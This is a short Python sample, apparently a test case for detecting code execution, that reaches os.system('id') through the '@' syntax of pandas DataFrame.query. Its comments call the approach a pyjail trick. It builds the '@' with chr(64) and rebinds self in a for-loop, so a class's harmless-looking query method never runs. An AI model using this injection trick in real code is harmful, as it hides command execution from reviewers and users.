# source: pandas DataFrame.query '@' local-variable injection (pandas-dev/pandas issues on query/eval code execution); pyjail rebinding tricks
# family: self rebound by a for-loop target to a DataFrame; self.query trusted as the script's def query
# goal: DataFrame.query with a run-time '@pd.io.common.os.system("id")' -> runs id
import pandas as pd
class Screen:
    def query(self, e, **kw):
        return None
    def pick(self, e):
        for self in [pd.DataFrame({"a": [1.0]})]:
            try:
                return self.query(e)
            except KeyError:
                return "done"
print(Screen().pick(chr(64) + "pd.io.common.os.system('id')"))
